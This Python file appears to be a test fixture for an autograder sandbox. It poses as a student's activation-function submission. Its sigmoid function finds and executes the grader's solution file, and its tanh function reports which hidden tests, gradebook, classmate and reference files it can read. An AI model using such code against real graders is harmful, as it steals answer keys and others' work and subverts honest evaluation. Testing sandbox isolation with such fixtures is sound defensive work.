"""Attack: read what the grader keeps on disk: the hidden tests, the gradebook, a classmate's
submission, the reference and the solutions, and copy the solution to score full marks.

``TARGETS`` is filled in by the test with the real locations (the worst case: an attacker who
knows the grading layout). The worker's own path also gives the checkout away, so the attack
looks there too. ``tanh`` reports what it could read as a bit mask in its (wrong) answer:
1 hidden tests, 2 gradebook, 4 classmate's submission, 8 reference, 16 solutions.
"""

import sys
from pathlib import Path

import numpy as np

TARGETS: dict = {}


def _repos():
    found = []
    main = getattr(sys.modules.get("__main__"), "__file__", None)
    if main:
        for parent in Path(main).resolve().parents:
            if (parent / "solutions").is_dir():
                found.append(parent)
    if TARGETS.get("repo"):
        found.append(Path(TARGETS["repo"]))
    return found


def _secrets():
    repo = _repos()[-1] if _repos() else Path("/nonexistent")
    return [
        Path(TARGETS.get("hidden", "/nonexistent")) / "test_activations.py",
        Path(TARGETS.get("out", "/nonexistent")) / "gradebook.sqlite",
        Path(TARGETS.get("class", "/nonexistent")) / "ann" / "activations.py",
        repo / "reference" / "activations.py",
        repo / "solutions" / "activations.py",
    ]


def _readable(path):
    try:
        with open(path, "rb") as fh:
            return len(fh.read(64)) > 0
    except OSError:
        return False


def _stolen_solution():
    for repo in _repos():
        path = repo / "solutions" / "activations.py"
        try:
            source = path.read_text()
        except OSError:
            continue
        namespace = {"__name__": "stolen"}
        exec(compile(source, str(path), "exec"), namespace)
        return namespace
    return None


def relu(x):
    return np.maximum(x, 0.0)


def sigmoid(x):
    stolen = _stolen_solution()
    return stolen["sigmoid"](x) if stolen else np.zeros_like(x)


def tanh(x):
    mask = sum(1 << bit for bit, path in enumerate(_secrets()) if _readable(path))
    return np.full_like(x, float(mask))


def leaky_relu(x, alpha=0.01):
    return np.where(x > 0, x, alpha * x)
